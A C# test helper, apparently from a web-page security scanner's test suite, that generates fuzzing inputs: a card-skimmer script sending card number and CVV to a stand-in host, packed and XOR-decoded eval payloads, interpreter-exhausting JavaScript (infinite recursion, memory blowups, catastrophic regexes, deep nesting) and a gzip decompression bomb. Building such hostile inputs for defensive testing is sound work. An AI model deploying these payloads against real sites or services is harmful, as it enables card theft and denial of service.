using System.Globalization;
using System.IO.Compression;
using System.Text;

namespace PageShield.Tests.Hostile;

/// <summary>Texts made to end, slow down or fill whoever reads them, by generators: as many as are asked for, the same for the same seed.</summary>
public static class HostileTexts
{
    private const string Packer = "eval(function(p,a,c,k,e,d){BODY}('0 1 2',62,3,'a|b|c'.split('|'),0,{}))";
    private const string Skimmer = "document.forms[0].onsubmit=function(){fetch('https://drop.example/x.gif',{method:'POST',body:document.querySelector('#card_number').value+document.querySelector('[name=cvv]').value});};\n";

    // What nests where it stands: what opens, and what closes.
    private static readonly (string Open, string Close)[] Nesting =
    [
        ("(", ")"), ("[", "]"), ("a(", ")"), ("{", "}"), ("function f(){", "}"), ("()=>", "1"), ("x=>({a:", "})"), ("class A{m(){", "}}"),
        ("`${", "}`"), ("!", "1"), ("-+", "1"), ("typeof ", "1"),
        ("new ", "A"), ("a?", ":0"), ("a?.[", "]"), ("if(a)", ";"), ("l:", ";"), ("do ", "while(0)"), ("async()=>await ", "1"), ("a=", "1"),
        ("a**", "1"), ("...", "a"), ("[...", "]"), ("{a:", "}"), ("import(", ")"),
        ("try{", "}catch{}"), ("switch(a){case 1:", "}"), ("for(;;)", ";"), ("with(a)", ";"), ("a||(", ")"), ("void ", "0"), ("delete ", "a.b"),
        ("yield ", ""), ("a,", "b"), ("[{a:[", "]}]"),
    ];

    // What repeats in a row.
    private static readonly string[] Rows =
    [
        "<!--\n", "\n-->", "/**/<!--\n", "\n--> x\n", "a+", "a.b", ".c()", "?.d", "a;", "'x'+", "\\u0061", "/a/;", "`x`", "//\n", "/*", "*/",
        "<!-- -->\n", "a=>", "#a in ", "@x ", "\u2028", "0x", "1_", "async ", "get ", "set ",
        "<script>", "</script>", "<script>//", "<!--<script>", "<div>", "<table>", "<b><i>", "<a href='javascript:", "&amp;", "&#x", "<svg><style>",
        "<template>", "<select>", "<p a=", "]]>", "<![CDATA[", "=\"",
    ];

    // What an interpreter does for whoever runs it, in native recursion, loops or memory.
    private static readonly string[] Bodies =
    [
        "var o={toString:function(){return o+''}};return o+''",
        "var a=[];for(var i=0;i<60000;i++)a=[a];return a.toString()",
        "var a=[];for(var i=0;i<60000;i++)a=[a];return a.join()",
        "var a={};for(var i=0;i<60000;i++)a={a:a};return JSON.stringify(a)",
        "function*g(){yield*g()}return [...g()].join()",
        "var a=[];a[0]=a;return a.flat(Infinity).join()",
        "return eval('<!--\\n'.repeat(20000)+'1')",
        "return new Function('<!--\\n'.repeat(20000)+'return 1')()",
        "var o={get a(){return this.a}};return o.a",
        "var o={valueOf:function(){return +o}};return +o",
        "var o={[Symbol.toPrimitive]:function(){return `${o}`}};return `${o}`",
        "var p=new Proxy({},{get:function(t,k,r){return r[k]}});return p.x",
        "return [3,2,1].sort(function s(){return [3,2,1].sort(s)}).join()",
        "return 'aaa'.replace(/a/g,function r(){return 'aaa'.replace(/a/g,r)})",
        "return Array.from({length:1e9},function(){return 'x'}).join('')",
        "return 'x'.repeat(1<<28)+'y'.repeat(1<<28)",
        "return 'x'.padEnd(1<<29,'abc')",
        "var s='a';for(;;)s+=s;return s",
        "var a=[];for(;;)a.push(new Array(1000).fill('x'));return a",
        "for(;;){}",
        "return (2n**(2n**30n)).toString()",
        "return /(a+)+$/.exec('a'.repeat(5000)+'b')",
        "return /(?:(?:(?:a*)*)*)*b/.test('a'.repeat(2000))",
        "return JSON.parse('['.repeat(100000)+']'.repeat(100000))",
        "return decodeURIComponent('%'.repeat(100000))",
        "function f(){return f.apply(null,arguments)}return f()",
        "function f(){return f.bind(null)()}return f()",
        "return Reflect.construct(function c(){return Reflect.construct(c,[])},[])",
        "class A{constructor(){new A}}return new A",
        "var t=Object.create(null);for(var i=0;i<1e5;i++)t=Object.create(t);return t.x",
        "var f=function(){};for(var i=0;i<1e5;i++)f=f.bind(f);return f()",
        "var p=Promise.resolve();for(var i=0;i<1e6;i++)p=p.then(function(){return p});return p",
        "return Array(60000).fill(0).reduceRight(function(a){return [a]},1)+''",
        "var e=new Error('x');for(var i=0;i<1e5;i++){e=new Error('x',{cause:e})}return String(e.stack)",
        "return [..._(1e9)].join();function _(n){return {*[Symbol.iterator](){while(n--)yield n}}}",
        "return structuredClone?1:2",
        "var m=new Map();for(;;)m.set({},m)",
        "return String.raw({raw:{length:1e9}},1)",
        "return new Date(8.64e15).toISOString().repeat(1e8)",
        "label:for(;;){for(;;)continue label}",
    ];

    /// <summary>Makes texts.</summary>
    /// <param name="count">How many.</param>
    /// <param name="seed">The same gives the same.</param>
    /// <param name="honest">Real code that is mutated too; may be empty.</param>
    /// <param name="spared">
    /// Work for the interpreter takes seconds of it each: only one in so many of those texts is made, mutated code and noise in place of the others.
    /// </param>
    public static IEnumerable<(string Kind, string Text)> Make(int count, int seed, IReadOnlyList<string> honest, int spared = 1)
    {
        // The same in every run, so that what is found can be found again.
        var random = new Random(seed);
        for (var index = 0; index < count; index++)
        {
            var kind = index % 8;
            if (kind is 2 or 3 or 5 && index / 8 % spared != 0) kind = 6 + (kind % 2);
            yield return kind switch
            {
                0 => ("nested", Nested(random)),
                1 => ("row", Row(random)),
                2 => ("interpreter", Packer.Replace("BODY", Pick(random, Bodies), StringComparison.Ordinal)),
                3 => ("interpreter in a skimmer", Skimmer + Packer.Replace("BODY", Pick(random, Bodies), StringComparison.Ordinal)),
                4 => ("row in a skimmer", Row(random) + "\n" + Skimmer),
                5 => ("decoder", Decoder(random)),
                6 when honest.Count > 0 => ("mutated", Mutated(random, honest[random.Next(honest.Count)])),
                7 => ("noise", Noise(random)),
                _ => ("nested markup", Markup(random)),
            };
        }
    }

    /// <summary>Compressed bodies that grow without end, as archives and sitemaps carry them.</summary>
    /// <param name="megabytes">What it grows to.</param>
    public static byte[] Bomb(int megabytes)
    {
        using var packed = new MemoryStream();
        using (var zip = new GZipStream(packed, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            var block = Encoding.ASCII.GetBytes(new string('<', 1 << 20));
            for (var index = 0; index < megabytes; index++) zip.Write(block);
        }

        return packed.ToArray();
    }

    private static string Nested(Random random)
    {
        var depth = Depth(random);
        var (open, close) = Nesting[random.Next(Nesting.Length)];
        var (other, shut) = random.Next(3) == 0 ? Nesting[random.Next(Nesting.Length)] : (open, close);
        var text = new StringBuilder("var a,b;a=");
        for (var level = 0; level < depth; level++) text.Append(level % 2 == 0 ? open : other);
        text.Append(random.Next(4) == 0 ? "" : "1");
        if (random.Next(5) > 0)
        {
            for (var level = depth - 1; level >= 0; level--) text.Append(level % 2 == 0 ? close : shut);
        }

        return text.ToString();
    }

    private static string Row(Random random) =>
        new StringBuilder().Insert(0, Rows[random.Next(Rows.Length)], Depth(random)).Append("a=1").ToString();

    private static string Markup(Random random)
    {
        var text = new StringBuilder("<html><body>")
            .Insert(12, Pick(random, ["<div>", "<b><p>", "<table><tr><td>", "<svg><g>", "<a><a>", "<font color=x>", "<form><form>"]), Depth(random));
        for (var element = 0; element < random.Next(2000); element++)
            text.Append("<script>").Append(Pick(random, ["var a=1", "<!--", "document.write('<script>')", "a</scr"])).Append("</script>");
        return text.ToString();
    }

    // Deep work behind a decoder that the analysis wants to run.
    private static string Decoder(Random random)
    {
        var text = new StringBuilder("function d(x){var s='';for(var i=0;i<x.length;i++){s+=String.fromCharCode(x.charCodeAt(i)^")
            .Append(random.Next(1, 120)).Append(");}").Append(Pick(random, Bodies).Replace("return ", "s+=", StringComparison.Ordinal))
            .Append(";return s;}\n");
        for (var call = 0; call < random.Next(1, 60); call++)
            text.Append(CultureInfo.InvariantCulture, $"window['k{call}']=d('{Convert.ToHexString(Bytes(random, 12))}');\n");
        return text.Append("eval(d('x'));").ToString();
    }

    private static string Mutated(Random random, string source)
    {
        var text = new StringBuilder(source.Length > 200_000 ? source[..200_000] : source);
        for (var change = 0; change < random.Next(1, 200) && text.Length > 10; change++)
        {
            var at = random.Next(text.Length);
            switch (random.Next(6))
            {
                case 0: text.Remove(at, Math.Min(text.Length - at, random.Next(1, 40))); break;
                case 1: text.Insert(at, Rows[random.Next(Rows.Length)]); break;
                case 2: text.Insert(at, Nesting[random.Next(Nesting.Length)].Open); break;
                case 3: text[at] = (char)random.Next(0x10000); break;
                case 4: text.Insert(at, text.ToString(at, Math.Min(text.Length - at, random.Next(1, 2_000)))); break;
                default: text[at] = (char)random.Next(32, 127); break;
            }
        }

        return text.ToString();
    }

    private static string Noise(Random random)
    {
        var text = new char[random.Next(1, 60_000)];
        var top = Pick(random, ["a", "bb", "ccc"]).Length switch { 1 => 0x80, 2 => 0x800, _ => 0x10000 };
        for (var index = 0; index < text.Length; index++) text[index] = (char)random.Next(top);
        return new string(text);
    }

    private static byte[] Bytes(Random random, int length)
    {
        var bytes = new byte[length];
        random.NextBytes(bytes);
        return bytes;
    }

    private static int Depth(Random random) =>
        random.Next(4) switch
        {
            0 => random.Next(10, 500),
            1 => random.Next(500, 5_000),
            2 => random.Next(5_000, 30_000),
            _ => random.Next(30_000, 100_000)
        };

    private static string Pick(Random random, string[] texts) => texts[random.Next(texts.Length)];
}
